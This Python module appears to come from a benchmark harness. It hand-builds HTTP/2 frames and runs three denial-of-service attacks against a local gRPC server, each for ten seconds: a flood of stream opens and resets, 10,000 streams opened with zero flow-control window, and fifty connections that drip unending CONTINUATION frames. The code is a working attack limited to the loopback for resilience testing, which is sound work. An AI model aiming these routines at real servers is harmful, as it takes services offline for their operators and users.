"""Attacks on a server on the loopback, each bounded to ten seconds: what bench_wire.py measures beside.

The bytes are made once, so that the attacker costs next to nothing on the two shared cores.
"""

import asyncio
import time

__all__ = ["ATTACKS", "attack"]

ATTACKS = ("resets", "streams", "slow_headers")
SECONDS = 10.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FIELDS = (
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", b"/wirebench.Bench/Stream"),
    (b":authority", b"a"),
    (b"content-type", b"application/grpc"),
)
BLOCK = b"".join(b"\0" + bytes((len(n),)) + n + bytes((len(v),)) + v for n, v in FIELDS)
# StreamRequest(count=1000): field 2, varint.
MESSAGE = b"\0\0\0\0\3\x10\xe8\x07"


def frame(kind: int, flags: int, stream_id: int, content: bytes) -> bytes:
    """One frame; RFC 9113, section 4.1."""
    head = len(content).to_bytes(3, "big") + bytes((kind, flags))
    return head + stream_id.to_bytes(4, "big") + content


def opening(initial_window: int) -> bytes:
    """Preface and SETTINGS."""
    return PREFACE + frame(4, 0, 0, b"\0\4" + initial_window.to_bytes(4, "big"))


async def resets(port: int) -> None:
    """Open and reset streams as fast as they go; come back when thrown out."""
    pairs = [frame(1, 4, i, BLOCK) + frame(3, 0, i, b"\0\0\0\x08") for i in range(1, 2 * 20_000, 2)]
    pieces = [b"".join(pairs[i : i + 500]) for i in range(0, len(pairs), 500)]
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(opening(65_535))
        for piece in pieces:
            writer.write(piece)
            await writer.drain()
    finally:
        writer.close()


async def streams(port: int) -> None:
    """Ask for 10,000 streams and give no window to answer in."""
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(opening(0))
        for i in range(1, 2 * 10_000, 2):
            writer.write(frame(1, 4, i, BLOCK) + frame(0, 1, i, MESSAGE))
            if i % 199 == 0:
                await writer.drain()
        await asyncio.sleep(SECONDS)
    finally:
        writer.close()


async def slow_headers(port: int) -> None:
    """Header blocks that never end, a byte at a time, on fifty connections."""

    async def drip() -> None:
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            writer.write(opening(65_535) + frame(1, 0, 1, BLOCK))
            while True:
                writer.write(frame(9, 0, 1, b""))
                await writer.drain()
                await asyncio.sleep(0.01)
        finally:
            writer.close()

    await asyncio.gather(*[drip() for _ in range(50)], return_exceptions=True)


async def attack(name: str, port: int) -> None:
    """Attack for SECONDS, again and again."""
    end_s = time.monotonic() + SECONDS
    kinds = {"resets": resets, "streams": streams, "slow_headers": slow_headers}
    while time.monotonic() < end_s:
        try:
            async with asyncio.timeout(end_s - time.monotonic()):
                await kinds[name](port)
        except (OSError, TimeoutError, RuntimeError):
            await asyncio.sleep(0.01)
